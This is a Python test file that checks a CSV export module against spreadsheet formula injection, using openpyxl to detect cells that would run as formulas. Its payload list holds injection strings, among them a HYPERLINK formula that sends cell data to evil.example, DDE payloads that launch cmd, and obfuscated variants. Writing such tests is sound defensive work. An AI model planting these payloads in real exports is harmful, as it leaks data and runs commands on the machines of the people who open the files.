"""P43: what we export is text in a spreadsheet program, and reads back to the very text.

No such program is needed. Its reading of a CSV is played by the rule that all share: a cell that begins
like a formula is one. A workbook that is written so is read back by openpyxl, which tells formulas from text
as those programs do.
"""

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rollcall.base import cells

pytestmark = pytest.mark.once
FORMULAS = [
    "=1+1", "+1+1", "-2+3", "@SUM(1,2)", "|calc", "=", "-", "+1 555 0142", "@home", "%0a=1", "'=1", "''=1",
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "=cmd|'/C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"1\")",
    "=WEBSERVICE(\"http://x\")", "=IMPORTXML(\"http://x\",\"//a\")", "=\n1", "\t=1", "\r=1", "\n=1", " =1",
    "\u00a0=1", "\u200b=1", "\ufeff=1", "\x00=1", "\x0b=1", "\u2028=1", "\u202e=1",
    "＝1+1", "＋1", "－1", "＠A1",
]  # fmt: skip


def opened(raw: bytes) -> list[list[openpyxl.cell.Cell]]:
    """The file as a program opens it: every field typed into a cell, saved, and read again."""
    book = openpyxl.Workbook()
    for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):
        book.active.append([_typed(field) for field in row])
    out = io.BytesIO()
    book.save(out)
    return list(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())


def _typed(field: str) -> str:
    """What a program makes of it: it skips what is not seen, and takes other signs for the equals sign."""
    seen = "".join(sign for sign in field if sign.isprintable() and not sign.isspace())
    runs = seen.startswith(("=", "+", "-", "@", "|", "＝", "＋", "－", "＠"))
    return f"={seen[1:]}" if runs else "".join(sign for sign in field if sign.isprintable())


def formulas(raw: bytes) -> list[str]:
    return [str(cell.value) for row in opened(raw) for cell in row if cell.data_type == "f"]


def read_back(raw: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    return [cells.read_back(row[0]) for row in list(rows)[1:]]


def test_no_cell_is_a_formula_and_all_read_back() -> None:
    raw = cells.as_csv(["text"], [[text] for text in FORMULAS])
    assert formulas(raw) == []
    assert read_back(raw) == FORMULAS


@settings(deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=8))
def test_whatever_somebody_is_called(names: list[str]) -> None:
    raw = cells.as_csv(["name"], [[name] for name in names])
    assert formulas(raw) == []
    assert read_back(raw) == names


def test_written_as_they_are_they_would_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """Negative control: nearly all of them."""
    monkeypatch.setattr(cells, "inert", str)
    assert len(formulas(cells.as_csv(["text"], [[text] for text in FORMULAS]))) > 25


def test_every_export_writes_through_these_cells() -> None:
    """A second writer of CSV in the house would be a hole: there is none."""
    rooms = Path(cells.__file__).parents[1]
    sources = [path for path in rooms.rglob("*.py") if "tests" not in path.parts]
    assert [path.name for path in sources if "csv.writer" in path.read_text()] == ["cells.py"]
